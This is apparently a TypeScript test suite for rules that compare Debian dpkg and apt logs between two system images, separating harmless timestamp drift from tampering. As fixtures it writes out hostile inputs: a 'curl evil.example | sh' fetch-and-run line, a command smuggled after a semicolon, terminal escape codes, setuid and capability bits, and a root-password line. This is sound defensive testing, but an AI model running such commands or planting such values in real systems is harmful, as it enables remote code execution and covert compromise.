import assert from 'node:assert/strict';
import { test } from 'node:test';
import { check, excuse } from '../../support/rules.ts';

test('dpkg.log: what was done is compared, when is not', () => {
  const log = (day: string, what = 'install nginx:amd64 <none> 1.22.1-9+deb12u1') =>
    `2026-01-${day} 10:00:00 startup archives unpack\n2026-01-${day} 10:00:01 ${what}\n`;
  const path = '/var/log/dpkg.log';
  check([
    ['another day', path, log('01'), log('02'), 'dpkg-log@1'],
    ['another version', path, log('01', 'install nginx:amd64 <none> 1.22.1-8'), log('02'), 'unknown'],
    ['one line more', path, `${log('01')}2026-01-01 10:00:02 remove nginx:amd64 1 <none>\n`, log('02'), 'unknown'],
    ['a line of no log', path, `${log('01')}curl evil.example | sh\n`, log('02'), 'unknown'],
    [
      'something behind an action',
      path,
      log('01', 'status installed nginx:amd64 1 ; evil'),
      log('02', 'status installed nginx:amd64 1 ; evil'),
      'unknown',
    ],
    ['terminal control', path, log('01', 'status installed a:all 1\u001b[2J'), log('02', 'status installed a:all 1\u001b[2J'), 'unknown'],
    ['an x bit', path, { text: log('01'), mode: 0o755 }, { text: log('02'), mode: 0o755 }, 'unknown'],
    ['a setuid bit', path, { text: log('01'), mode: 0o4644 }, { text: log('02'), mode: 0o4644 }, 'unknown'],
    ['another mode on one side', path, { text: log('01'), mode: 0o666 }, log('02'), 'unknown'],
    ['another owner on one side', path, { text: log('01'), uid: 1000 }, log('02'), 'unknown'],
    ['a program by that name', path, { text: log('01'), magic: 'elf' }, log('02'), 'unknown'],
    [
      'an attribute',
      path,
      { text: log('01'), xattrs: { 'security.capability': 'AQ==' } },
      { text: log('02'), xattrs: { 'security.capability': 'AQ==' } },
      'unknown',
    ],
    ['the same text elsewhere', '/var/log/other.log', log('01'), log('02'), 'unknown'],
    ['only in the published image', path, log('01'), undefined, 'unknown'],
  ]);
  const moved = excuse(path, log('01', 'install nginx:amd64 <none> 1'), log('02', 'install nginx:amd64 <none> 2'), { drifted: ['nginx'] });
  assert.equal(moved, 'dpkg-log@1');
  assert.equal(excuse(path, log('01', 'install netcat:amd64 <none> 1'), log('02'), { drifted: ['nginx'] }), 'unknown');
});

test('the other logs of the package tools', () => {
  const alternatives = (time: string, link = '/usr/bin/vim') =>
    `update-alternatives ${time}: run with --install /usr/bin/editor editor ${link} 50\n`;
  const history = (time: string, command = 'apt-get install nginx', list = 'a:amd64 (1), nginx:amd64 (1.2, automatic)') =>
    `\nStart-Date: 2026-01-01  ${time}\nCommandline: ${command}\nInstall: ${list}\nEnd-Date: 2026-01-01  ${time}\n`;
  const term = (time: string, more = '') =>
    `\nLog started: 2026-01-01  ${time}\nSetting up nginx (1.2) ...\n${more}Log ended: 2026-01-01  ${time}\n`;
  const clock = (day: string) => `Local time is now:      Mon Jan  ${day} 10:00:00 UTC 2026.\n`;
  check([
    [
      'alternatives',
      '/var/log/alternatives.log',
      alternatives('2026-01-01 10:00:00'),
      alternatives('2026-01-02 11:00:00'),
      'alternatives-log@1',
    ],
    [
      'another alternative',
      '/var/log/alternatives.log',
      alternatives('2026-01-01 10:00:00', '/tmp/evil'),
      alternatives('2026-01-02 11:00:00'),
      'unknown',
    ],
    ['history', '/var/log/apt/history.log', history('10:00:00'), history('11:00:00'), 'apt-history@1'],
    [
      'another order of packages',
      '/var/log/apt/history.log',
      history('10:00:00', undefined, 'nginx:amd64 (1.2, automatic), a:amd64 (1)'),
      history('11:00:00'),
      'apt-history@1',
    ],
    [
      'another command',
      '/var/log/apt/history.log',
      history('10:00:00', 'apt-get install --allow-unauthenticated nginx'),
      history('11:00:00'),
      'unknown',
    ],
    [
      'a package more',
      '/var/log/apt/history.log',
      history('10:00:00', undefined, 'a:amd64 (1), evil:amd64 (1), nginx:amd64 (1.2, automatic)'),
      history('11:00:00'),
      'unknown',
    ],
    ['a field of no history', '/var/log/apt/history.log', `${history('10:00:00')}Evil: x\n`, `${history('11:00:00')}Evil: x\n`, 'unknown'],
    ['term.log', '/var/log/apt/term.log', term('10:00:00'), term('11:00:00'), 'apt-term@1'],
    ['the clock of tzdata', '/var/log/apt/term.log', term('10:00:00', clock('5')), term('11:00:00', clock('6')), 'apt-term@1'],
    ['another line', '/var/log/apt/term.log', term('10:00:00', 'Adding password for user root\n'), term('11:00:00'), 'unknown'],
    [
      'something before the clock',
      '/var/log/apt/term.log',
      term('10:00:00', `evil ${clock('5')}`),
      term('11:00:00', clock('6')),
      'unknown',
    ],
    [
      'a line hidden by a carriage return is what was left standing',
      '/var/log/apt/term.log',
      term('10:00:00', 'x\rSetting up b\n'),
      term('11:00:00', 'y\rSetting up b\n'),
      'apt-term@1',
    ],
  ]);
});
